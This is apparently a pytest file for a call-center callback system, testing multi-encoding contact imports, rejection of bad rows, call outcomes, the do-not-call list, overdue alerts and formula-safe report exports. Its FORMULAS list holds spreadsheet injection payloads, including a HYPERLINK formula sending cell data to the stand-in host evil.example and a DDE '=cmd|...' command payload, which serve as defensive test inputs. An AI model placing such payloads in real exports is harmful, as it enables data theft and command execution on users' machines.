"""Campaigns on SQLite and PostgreSQL: imports in every encoding Chinese
spreadsheets use, bad rows reported, outcomes, do-not-call, and the report (its
exports inert however hostile the names in it; hostile imports: test_import_limits)."""

from __future__ import annotations

import csv
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook

from callcenter.callbacks import dnc, service
from callcenter.callbacks import report as export
from callcenter.callbacks.settings import CallbacksSection, import_limits
from callcenter.domain.calendar import WorkCalendar
from callcenter.domain.callbacks import Outcome, RetryPolicy
from callcenter.domain.phone import PhoneNumber, PhoneRules
from callcenter.store import db
from callcenter.store import models as m

P = PhoneNumber.parse
LIMITS = import_limits(CallbacksSection())
TZ = ZoneInfo("Asia/Shanghai")
CAL = WorkCalendar()
NOW = 1_800_000_000.0
ROWS = [
    ["姓名", "电话", "服务日期", "备注", "会员"],
    ["张三", "+86 138 0013 8000", "2026-11-20", "空调维修", "是"],
    ["李四", "", "2026-11-20", "", ""],                     # missing phone
    ["王五", "12345", "2026-11-21", "", ""],                # invalid number
    ["赵六", "008613800138000", "2026-11-21", "", ""],      # duplicate of row 2
    ["钱七", "13900139000", "2026/11/22", "tab\there", ""],  # control character
    ["孙八", "13700137000", "next week", "", ""],           # bad date
    ["周九", "13600136000", "2026.11.23", "", "否"],
]


def _write_csv(path: Path, encoding: str) -> Path:
    path.write_bytes("\n".join(",".join(r) for r in ROWS).encode(encoding) + b"\n")
    return path


def _campaign(url: str) -> int:
    return service.create_campaign(db.engine_for(url), service.NewCampaign("回访 11月"), NOW)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030"])
def test_csv_import_in_every_encoding(db_url: str, tmp_path: Path, encoding: str) -> None:
    engine = db.engine_for(db_url)
    campaign = _campaign(db_url)
    report = service.import_file(engine, campaign, _write_csv(tmp_path / "list.csv", encoding),
                                 NOW, TZ, calendar=CAL, limits=LIMITS,
                                 phones=PhoneRules())
    assert [r.phone for r in report.good] == ["13800138000", "13600136000"]
    assert [(r.row, r.reason) for r in report.rejected] == [
        (3, "missing phone"), (4, "invalid number '12345'"), (5, "duplicate of row 2"),
        (6, "control characters in note"), (7, "bad service date 'next week'")]
    assert [(r.code, r.column, r.detail) for r in report.rejected] == [
        ("missing_phone", "phone", ""), ("invalid_number", "phone", "12345"),
        ("duplicate_row", "phone", "2"), ("control_characters", "note", ""),
        ("bad_service_date", "service_date", "next week")]
    rows = service.campaigns(engine, TZ)
    assert rows[0]["contacts"] == 2 and rows[0]["pending"] == 2
    # the same file again: everything is already there
    again = service.import_file(engine, campaign, tmp_path / "list.csv", NOW, TZ, calendar=CAL,
                                limits=LIMITS, phones=PhoneRules())
    assert not again.good and {r.code for r in again.rejected} >= {"in_campaign"}


def test_xlsx_import(db_url: str, tmp_path: Path) -> None:
    book = Workbook()
    for row in ROWS:
        book.active.append(row)
    book.save(tmp_path / "list.xlsx")
    engine = db.engine_for(db_url)
    report = service.import_file(engine, _campaign(db_url), tmp_path / "list.xlsx", NOW, TZ,
                                 calendar=CAL, limits=LIMITS,
                                 phones=PhoneRules())
    assert len(report.good) == 2 and len(report.rejected) == 5


def test_outcomes_retries_do_not_call_and_report(db_url: str) -> None:
    engine = db.engine_for(db_url)
    campaign = _campaign(db_url)
    first = service.add_contact(engine, campaign, P("13800138000"), NOW, tz=TZ, calendar=CAL,
                                name="张三", member=True)
    second = service.add_contact(engine, campaign, P("13900139000"), NOW, tz=TZ, calendar=CAL,
                                 name="李四")
    assert first and second
    same_person = service.add_contact(engine, campaign, P("+8613800138000"), NOW, tz=TZ, calendar=CAL)
    assert same_person is None
    policy = RetryPolicy(max_attempts=3)
    with engine.begin() as conn:
        for i, contact in enumerate((first, second, second)):
            conn.execute(m.Attempt.__table__.insert().values(
                contact_id=contact, campaign_id=campaign, phone="x", action_id=f"a{i}",
                channel_id=f"c{i}", status="ended", started_at=NOW + i, note=""))
        ids = [a.id for a in conn.execute(m.Attempt.__table__.select().order_by(m.Attempt.id))]
    service.record_outcome(engine, ids[0], Outcome.SUCCESS, NOW + 60, policy, score=5,
                           agent="Local/1@x")
    service.record_outcome(engine, ids[1], Outcome.NO_ANSWER, NOW + 60, policy)
    service.record_outcome(engine, ids[2], Outcome.REFUSED, NOW + 7300, policy, agent="Local/1@x")
    with pytest.raises(service.CampaignError, match="score"):
        service.record_outcome(engine, ids[0], Outcome.SUCCESS, NOW, policy)
    report = service.report(engine, campaign, NOW + 10 * 86400, TZ)
    assert report["contacts"] == 2 and report["reached"] == 2 and report["coverage_pct"] == 100.0
    assert report["members_reached"] == 1 and report["success"] == 1
    assert report["score_distribution"]["5"] == 1
    assert report["failure_reasons"] == {"no_answer 无人接听": 1, "refused 拒绝回访": 1}
    assert report["per_agent"] == {"Local/1@x": {"success": 1, "refused": 1}}
    # refused: on the do-not-call list, never added to any campaign again
    other = _campaign(db_url)
    assert service.add_contact(engine, other, P("13900139000"), NOW, tz=TZ, calendar=CAL) is None


def test_abandoned_caller_who_gets_through_needs_no_callback(db_url: str) -> None:
    engine = db.engine_for(db_url)
    standing = service.abandoned_campaign(engine, NOW)
    assert service.abandoned_campaign(engine, NOW) == standing  # one standing campaign
    service.add_contact(engine, standing, P("13800138000"), NOW, tz=TZ, calendar=CAL)
    assert service.cancel_abandoned(engine, "+86 138 0013 8000") == 1
    rows = service.campaigns(engine, TZ)
    assert rows[0]["pending"] == 0


def test_overdue_callbacks_raise_and_clear_an_alert(db_url: str) -> None:
    engine = db.engine_for(db_url)
    campaign = _campaign(db_url)
    service.add_contact(engine, campaign, P("13800138000"), NOW, tz=TZ, calendar=CAL,
                        deadline=NOW + 3 * 86400)
    assert service.check_deadlines(engine, NOW + 86400) == 0
    assert service.check_deadlines(engine, NOW + 4 * 86400) == 1
    service.check_deadlines(engine, NOW + 4 * 86400)  # still one open alert, not two
    with engine.connect() as conn:
        alerts = conn.execute(m.Alert.__table__.select()).all()
    assert len(alerts) == 1 and alerts[0].cleared_at is None
    dnc.dnc_add(engine, P("13800138000"), "refused", NOW + 5 * 86400)  # cancels the contact
    assert service.check_deadlines(engine, NOW + 5 * 86400) == 0
    with engine.connect() as conn:
        assert conn.execute(m.Alert.__table__.select()).one().cleared_at is not None


FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "+1+2", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1", "  =1+1", "\u202e=cmd|'/c calc'!A0"]


def test_exports_neutralise_formula_like_text(db_url: str, tmp_path: Path) -> None:
    engine = db.engine_for(db_url)
    campaign = _campaign(db_url)
    for i, name in enumerate(FORMULAS):
        service.add_contact(engine, campaign, P(f"1380013{i:04d}"), NOW, tz=TZ, calendar=CAL,
                            name=name)
    report = service.report(engine, campaign, NOW, TZ)
    export.write_csv(tmp_path / "r.csv", report)
    export.write_xlsx(tmp_path / "r.xlsx", report)

    book = load_workbook(tmp_path / "r.xlsx")  # not read-only: data types as Excel sees them
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    names = [row[0].value for row in book["not reached"].iter_rows(min_row=2)]
    assert names == ['\'=HYPERLINK("http://evil.example/?q="&A1,"点击")', "'+1+2", "'-2+3",
                     "'@SUM(1,1)", "'=1+1", "'=1+1", "'=1+1", "'=cmd|'/c calc'!A0"]
    summary = {row[0].value: row[1].value for row in book["summary"].iter_rows(min_row=2)}
    assert summary["contacts"] == len(FORMULAS) and isinstance(summary["contacts"], int)
    assert next(row[1].value for row in book["not reached"].iter_rows(min_row=2)) == "13800130000"

    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as source:
        cells = [cell for row in csv.reader(source) for cell in row]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert [c for c in cells if c.startswith("'")] == names
    assert "8" in cells  # the count of contacts, a plain number
